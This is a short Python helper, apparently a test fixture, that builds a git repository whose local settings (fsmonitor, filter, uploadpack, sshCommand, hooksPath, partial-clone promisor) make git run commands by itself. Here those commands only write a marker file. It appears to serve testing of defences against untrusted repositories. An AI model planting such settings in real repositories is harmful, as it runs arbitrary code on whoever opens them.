"""A repository whose settings name a program, which git runs as soon as it lists the files: an archive may hold one."""

import os
import subprocess
from pathlib import Path

SETUP = """
echo x > .gitignore; git add -A; git -c user.email=a@b -c user.name=a commit -qm 1
B=$(git rev-parse :.gitignore); git update-index --skip-worktree .gitignore
rm .gitignore .git/objects/$(echo $B | cut -c1-2)/$(echo $B | cut -c3-)
git config core.repositoryformatversion 1; git config extensions.partialClone o
git config remote.o.url "$1"; git config remote.o.promisor true
git config remote.o.uploadpack "sh -c 'id > $2; exit 1' #"
git config core.fsmonitor "touch $2"; git config core.sshCommand "touch $2"; git config core.hooksPath .
git config filter.x.clean "touch $2"; git config filter.x.process "touch $2"
echo '* filter=x' > .gitattributes; echo n > new.txt
"""


def hostile_repository(folder: Path, payload: Path, url: str = ".") -> Path:
    """Make a repository that writes a file where git fetches what is missing in it; return its folder.

    Args:
        folder: is made.
        payload: the file that its programs write.
        url: where it fetches from.
    """
    folder.mkdir()
    nobody = {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull}
    subprocess.run(["git", "init", "-q"], cwd=folder, check=True)
    subprocess.run(
        ["sh", "-c", SETUP, "sh", url, str(payload)],
        cwd=folder,
        check=True,
        env={**os.environ, **nobody},
    )
    return folder
